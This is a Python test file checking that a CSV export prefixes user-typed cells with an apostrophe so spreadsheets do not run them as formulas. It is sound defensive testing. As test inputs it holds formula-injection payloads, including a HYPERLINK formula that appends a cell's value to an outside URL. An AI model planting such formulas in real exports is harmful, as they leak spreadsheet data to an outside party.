"""CSV cells are text to a spreadsheet: nothing a user typed runs as a formula."""

from __future__ import annotations

import csv
import io

import polars as pl
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from accords.api.app import create_app
from accords.spreadsheet import read_back, spreadsheet_safe

FORMULA_START = tuple("=+-@\t\r")


def _cell(text: str) -> str:
    return str(spreadsheet_safe(pl.DataFrame({"c": [text]}))["c"][0])


@given(st.text())
def test_no_text_cell_starts_a_formula(text: str) -> None:
    cell = _cell(text)
    if cell.startswith(FORMULA_START):
        assert cell == text and text.startswith("-")
        float(text.replace(",", ""))  # a negative number, which a spreadsheet reads as one


@given(st.text().filter(lambda t: not t.startswith("'")))
def test_read_back_gives_the_text_that_was_written(text: str) -> None:
    frame = pl.DataFrame({"c": [text], "n": [-3]})
    assert read_back(spreadsheet_safe(frame)).to_dicts() == frame.to_dicts()


def test_formulas_are_marked_and_numbers_and_plain_text_are_not() -> None:
    assert _cell('=HYPERLINK("http://example.org")') == '\'=HYPERLINK("http://example.org")'
    assert _cell("@SUM(A1)") == "'@SUM(A1)"
    assert _cell("-2+3") == "'-2+3"
    assert _cell("-12.5") == "-12.5"
    assert _cell("2025-04-01") == "2025-04-01"
    numbers = pl.DataFrame({"n": [-1, 2]})
    assert spreadsheet_safe(numbers).equals(numbers)


def test_the_checkers_csv_keeps_a_typed_formula_as_text() -> None:
    client = TestClient(create_app())
    query = {
        "id": '=HYPERLINK("http://example.org/?"&A1)',
        "citizenships": "VEN",
        "present_in": "USA",
        "date": "2025-04-01",
    }
    response = client.get("/check.csv", params=query)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows and {row["person"] for row in rows} == {"'" + query["id"]}
    assert {row["date"] for row in rows} == {"2025-04-01"}
